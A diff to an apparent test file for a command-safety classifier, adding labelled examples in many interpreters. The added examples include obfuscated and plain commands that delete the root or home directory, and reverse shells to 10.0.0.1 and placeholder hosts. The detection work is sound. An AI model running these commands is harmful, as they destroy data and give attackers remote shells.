@@ -43,6 +43,20 @@ PYTHON = [
     "python3 -c \"import os; os.remove('/etc/passwd')\"",
     "python3 - <<< \"import shutil; shutil.rmtree('/')\"",
     "echo \"import shutil; shutil.rmtree('/')\" | python3",
+    "python3 -c \"import zlib,base64; exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRKM4oLcnMsYbSekW5JUWpqRrq+uqaANm/C9Q=')))\"",
+    "python3 -c \"import base64,gzip; exec(gzip.decompress(base64.b64decode('H4sIAAAAAAACA8vMLcgvKlEozigtycyxhtJ6RbklRampGur66poAJrR66SEAAAA=')))\"",
+    "python3 -c \"exec(bytes.fromhex('696d706f7274206f733b206f732e73797374656d2827726d202d7266202f2729'))\"",
+    "python3 -c \"exec(bytes.fromhex('696d706f7274206f733b206f732e73797374656d2827726d202d7266202f2729').decode())\"",
+    "python3 -c \"import binascii; exec(binascii.unhexlify('696d706f7274206f733b206f732e73797374656d2827726d202d7266202f2729'))\"",
+    "python3 -c \"eval(compile('import shutil; shutil.rmtree(\\\"/\\\")', 'x', 'exec'))\"",
+    "python3 -c \"exec('import shutil; shutil.rmtree(\\\"/\\\")')\"",
+    "python3 -c \"__import__('os').system('rm -rf /')\"",
+    "python3 -c \"getattr(__import__('os'), 'system')('rm -rf /')\"",
+    "python3 -c \"getattr(__import__('shutil'),'rmtree')('/')\"",
+    "python3 -c \"import importlib; importlib.import_module('os').system('rm -rf /')\"",
+    "python3 -c \"__import__('shutil').rmtree(__import__('os').path.expanduser('~'))\"",
+    "python3 -c \"import shutil,os; shutil.rmtree(str(os.path.expanduser('~')))\"",
+    "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IHNodXRpbDsgc2h1dGlsLnJtdHJlZSgnLycp'))\"",
 ]
 
 PERL = [
@@ -114,7 +128,45 @@ AWK = [
     "kubectl debug node/worker-1 -it --image=busybox -- chroot /host rm -rf /",
 ]
 
-CATASTROPHIC = PYTHON + PERL + RUBY + NODE + AWK
+OTHER_INTERPRETERS = [
+    "perl -e 'eval(pack(\"H*\", \"73797374656d2822726d202d7266202f2229\"))'",
+    "julia -e 'rm(homedir(); recursive=true)'",
+    "julia -e 'rm(\"/\"; recursive=true, force=true)'",
+    "julia -e 'run(`rm -rf /`)'",
+    "deno eval 'Deno.remove(\"/\", {recursive: true})'",
+    "deno eval 'await Deno.remove(Deno.env.get(\"HOME\"), { recursive: true })'",
+    "deno eval 'new Deno.Command(\"rm\", {args: [\"-rf\", \"/\"]}).outputSync()'",
+    "bun -e 'Bun.spawnSync([\"rm\", \"-rf\", \"/\"])'",
+    "bun -e 'await Bun.$`rm -rf /`'",
+    "bun -e 'require(\"fs\").rmSync(require(\"os\").homedir(), {recursive: true})'",
+    "php -r 'system(\"rm -rf /\");'",
+    "php -r 'exec(\"rm -rf ~\");'",
+    "php -r 'shell_exec(\"rm -rf /\");'",
+    "php -r 'passthru(\"rm -rf /\");'",
+    "php -r 'echo `rm -rf /`;'",
+    "php -r 'system(\"rm -rf \" . getenv(\"HOME\"));'",
+    "lua -e 'os.execute(\"rm -rf /\")'",
+    "lua -e 'io.popen(\"rm -rf ~\")'",
+    "Rscript -e 'system(\"rm -rf /\")'",
+    "Rscript -e 'unlink(\"/\", recursive=TRUE)'",
+    "R -e 'unlink(path.expand(\"~\"), recursive = TRUE)'",
+    "Rscript -e 'unlink(Sys.getenv(\"HOME\"), recursive=TRUE)'",
+    "osascript -e 'do shell script \"rm -rf ~\"'",
+    "osascript -e 'do shell script \"rm -rf /\" with administrator privileges'",
+    "osascript -e 'do shell script \"rm -rf \" & quoted form of \"/\"'",
+    "osascript -l JavaScript -e 'app = Application.currentApplication(); app.includeStandardAdditions = true; app.doShellScript(\"rm -rf ~\")'",
+]
+
+REVERSE_SHELLS = [
+    "node -e \"var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'10.0.0.1',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});\"",
+    "node -e \"const s=require('net').connect(4444,'h',()=>{const p=require('child_process').spawn('bash',['-i']);s.pipe(p.stdin);p.stdout.pipe(s);p.stderr.pipe(s)})\"",
+    "node -e \"require('node:net').createConnection({host:'h',port:1},function(){this.pipe(require('child_process').exec('sh').stdin)})\"",
+    "deno eval 'const c = await Deno.connect({hostname: \"h\", port: 4444}); const p = new Deno.Command(\"sh\", {stdin: \"piped\", stdout: \"piped\"}).spawn(); c.readable.pipeTo(p.stdin); p.stdout.pipeTo(c.writable)'",
+    "lua -e 'local s=require(\"socket\").tcp(); s:connect(\"h\",4444); while true do local c=s:receive(); local f=io.popen(c); s:send(f:read(\"*a\")) end'",
+    "php -r '$s=fsockopen(\"h\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+]
+
+CATASTROPHIC = PYTHON + PERL + RUBY + NODE + AWK + OTHER_INTERPRETERS + REVERSE_SHELLS
 
 DANGEROUS = [
     "python3 -c \"import shutil; shutil.rmtree('build')\"",
@@ -133,6 +185,11 @@ DANGEROUS = [
     "docker run --rm -v /srv/data:/data alpine rm -rf /data/cache",
     "docker run --rm alpine rm -rf /",
     "python3 -c \"import subprocess\nwhile True: subprocess.run(['date']); time.sleep(5)\"",
+    "python3 -c \"exec(bytes.fromhex('7072696e74283129'))\"",
+    "python3 -c \"getattr(__import__('os'), 'system')('ls')\"",
+    "julia -e 'rm(\"build\"; recursive=true)'",
+    "osascript -e 'do shell script \"ls ~\"'",
+    "node -e \"require('net').connect(80, 'x.example')\"",
 ]
 
 SAFE = [
